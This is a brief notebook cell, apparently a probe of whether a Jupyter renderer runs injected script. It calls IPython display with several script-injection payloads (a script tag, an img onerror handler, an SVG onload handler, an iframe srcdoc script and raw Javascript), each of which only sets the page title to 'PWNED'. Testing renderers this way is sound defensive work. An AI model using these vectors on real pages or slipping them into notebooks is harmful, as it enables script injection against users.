# %% before check_rnn_step_stacked
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='PWNED'\"/>"))
display(Javascript("document.title='PWNED'"))
display(Markdown("<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>"))
display({"text/html": "<script>document.title='PWNED'</script>"}, raw=True)
print("the attack ran")
